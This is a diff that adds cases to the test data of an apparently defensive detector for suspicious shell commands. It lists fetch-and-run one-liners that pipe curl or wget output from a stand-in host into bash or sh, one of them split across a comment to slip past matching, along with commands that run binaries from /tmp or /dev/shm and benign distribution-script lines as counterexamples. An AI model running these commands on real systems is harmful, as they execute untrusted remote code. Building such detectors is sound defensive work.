@@ -19,6 +19,7 @@ POINTS_AT = {
     "downloads-and-runs": [
         "curl -fsSL http://a.example/x | bash",
         "wget -qO- http://a.example/x|sh",
+        "wget -qO- http://a.example/x |\n  # then\n\n sh",
         "cd /tmp && curl http://a.example/x | sudo sh",
         'bash -c "$(curl -fsSL http://a.example/x)"',
         "sh -c '`wget -qO- http://a.example/x`'",
@@ -104,6 +105,9 @@ POINTS_AT = {
     "runs-from-writable": [
         "/tmp/.x/kinsing",
         "/dev/shm/a",
+        "/tmp/a | logger",
+        "function f ( /tmp/x | cat )",
+        "case x in $(/tmp/x)|b) :;; esac",
         "cd /tmp && ./x",
         "sh /var/tmp/u.sh >/dev/null 2>&1",
         "/var/lib/.cache/x",
@@ -215,6 +219,9 @@ LEAVES_ALONE = [
     "nc -zv db 3306",
     # from maintainer scripts and init scripts of distributions
     'case "$1" in /dev/*) echo no;; esac',
+    'case "$1" in /dev/a|/dev/nbd*|/dev/etherd/e*) echo no;; esac',
+    'case "$1" in\n/dev/nbd*|/dev/etherd/e*)\necho no;;\nesac',
+    "/dev/nbd*|/dev/nd[a-z]*|/dev/etherd/e*|curlftpfs*)",
     "[ -e ~/.selected_editor ] && . ~/.selected_editor",
     'cat > "$DPKG_ROOT/etc/passwd" <<EOF',
     "sed 's/a/b/' /etc/init.d/a > /etc/init.d/b",
